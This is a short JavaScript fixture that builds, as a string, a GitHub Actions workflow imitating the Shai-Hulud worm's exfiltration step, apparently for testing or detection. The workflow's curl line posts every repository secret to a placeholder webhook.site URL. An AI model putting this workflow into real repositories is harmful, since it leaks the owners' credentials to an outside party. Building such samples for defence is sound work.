/* eslint-disable */
// Inert imitation of Shai-Hulud's exfiltration workflow (incidents.md section 3): the YAML a
// worm would commit posts every secret to a webhook.site URL. The UUID is all zeros and the YAML
// is only built as a string here.
const WEBHOOK = 'https://webhook.site/00000000-0000-0000-0000-000000000000';

const workflow = [
  'on: push',
  'jobs:',
  '  process:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: curl -d "$CONTENTS" ' + WEBHOOK,
  '        env:',
  '          CONTENTS: ${{ toJSON(secrets) }}',
].join('\n');

module.exports = workflow;
